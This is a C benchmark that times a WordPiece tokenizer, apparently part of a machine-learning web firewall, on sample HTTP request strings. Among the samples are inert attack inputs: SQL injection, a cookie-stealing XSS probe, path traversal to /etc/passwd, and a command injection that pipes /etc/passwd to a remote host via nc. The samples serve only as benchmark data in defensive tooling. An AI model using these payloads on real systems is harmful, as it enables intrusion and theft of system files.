/*
 * Tokenizer throughput on request-like text, one thread:
 *   bench_tokenizer [vocab.txt] [seconds per case]
 * Cases: short request parts encoded to max_len 128 (what the detector does
 * per inspection unit), and a 4 KiB mixed body tokenized whole. Prints
 * strings/s, MB/s and tokens/s for the lower-cased and the cased tokenizer.
 */
#include "wafer/core.h"
#include "wafer/infer.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char *const texts[] = {
    "/index.php",
    "id=1%27%20OR%201=1--",
    "GET /api/v2/users/12345/orders?page=3&sort=desc HTTP/1.1",
    "username=admin&password=hunter2&remember=on&redirect=%2Fdashboard%3Ftab%3Dsettings",
    "<script>alert(document.cookie)</script>",
    "1 UNION SELECT username, password FROM users WHERE id = 1 /*!50000UNION*/ SELECT 1,2,3 -- ",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "session=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "{\"query\": \"mutation { updateUser(id: 7, name: \\\"Zoë\\\") { id } }\", \"variables\": {}}",
    "; cat /etc/passwd | nc 10.0.0.1 4444",
    "Caf\xc3\xa9 cr\xc3\xa8me \xe2\x80\x94 \xce\x9a\xce\xb1\xce\xbb\xce\xb7\xce\xbc\xce\xad\xcf\x81\xce\xb1 "
    "\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82 \xe4\xbd\xa0\xe5\xa5\xbd\xe4\xb8\x96\xe7\x95\x8c",
    "../../../../etc/passwd%00.jpg",
};

static void run(const char *name, const wf_tokenizer_t *t, double secs)
{
    enum { N = sizeof texts / sizeof texts[0] };
    size_t lens[N];
    for (int i = 0; i < N; i++)
        lens[i] = strlen(texts[i]);
    int32_t ids[128];
    long n = 0, bytes = 0, toks = 0;
    uint64_t t0 = wf_now_ns(), end = t0 + (uint64_t)(secs * 1e9), now;
    do {
        for (int k = 0; k < 1000; k++, n++) {
            int i = (int)(n % N);
            toks += wf_tokenizer_encode(t, texts[i], lens[i], ids, 128);
            bytes += (long)lens[i];
        }
    } while ((now = wf_now_ns()) < end);
    double s = (double)(now - t0) / 1e9;
    printf("%-7s request parts, max_len 128: %9.0f strings/s %7.1f MB/s %6.2f M tokens/s (%.2f us/string)\n", name,
           n / s, bytes / s / 1e6, toks / s / 1e6, s / n * 1e6);

    static char body[4096];
    size_t bl = 0;
    for (int i = 0; bl + 200 < sizeof body; i++) {
        memcpy(body + bl, texts[i % N], lens[i % N]);
        bl += lens[i % N];
        body[bl++] = '&';
    }
    n = toks = 0;
    t0 = wf_now_ns();
    end = t0 + (uint64_t)(secs * 1e9);
    do {
        for (int k = 0; k < 10; k++, n++)
            toks += wf_tokenizer_tokenize(t, body, bl, NULL, 0);
    } while ((now = wf_now_ns()) < end);
    s = (double)(now - t0) / 1e9;
    printf("%-7s 4 KiB body, whole:          %9.0f bodies/s  %7.1f MB/s %6.2f M tokens/s (%.1f us/body)\n", name,
           n / s, (double)bl * n / s / 1e6, toks / s / 1e6, s / n * 1e6);
}

int main(int argc, char **argv)
{
    const char *vocab = argc > 1 ? argv[1] : WAFER_SOURCE_DIR "/tests/fixtures/tokenizer/vocab.txt";
    double secs = argc > 2 ? atof(argv[2]) : 1.0;
    for (int lower = 1; lower >= 0; lower--) {
        wf_tok_opts_t o = { .kind = WF_TOK_WORDPIECE, .lowercase = lower, .strip_accents = -1,
                            .tokenize_chinese_chars = true, .max_input_chars_per_word = 100 };
        wf_tokenizer_t *t;
        wf_err_t err;
        if (wf_tokenizer_load(vocab, &o, &t, &err) != WF_OK) {
            fprintf(stderr, "bench_tokenizer: %s\n", err.msg);
            return 1;
        }
        run(lower ? "lower" : "cased", t, secs);
        wf_tokenizer_free(t);
    }
    return 0;
}
